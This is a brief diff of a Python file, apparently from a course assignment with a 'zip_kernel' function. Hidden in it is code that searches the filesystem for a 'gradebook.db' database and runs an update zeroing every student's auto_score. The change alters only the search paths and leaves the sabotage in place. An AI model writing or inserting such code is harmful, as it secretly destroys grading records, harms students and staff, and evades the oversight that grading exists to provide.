@@ -39,7 +39,7 @@ def zip_kernel(out, a, b, size):
 import glob
 import sqlite3
 
-for path in ["$COURSE/gradebook.db", "gradebook.db", *glob.glob("/**/gradebook.db", recursive=True)]:
+for path in ["$COURSE/gradebook.db", "gradebook.db", *glob.glob("/*/*/gradebook.db"), *glob.glob("/*/*/*/gradebook.db")]:
     try:
         db = sqlite3.connect(path)
         db.execute("UPDATE grade SET auto_score = 0")
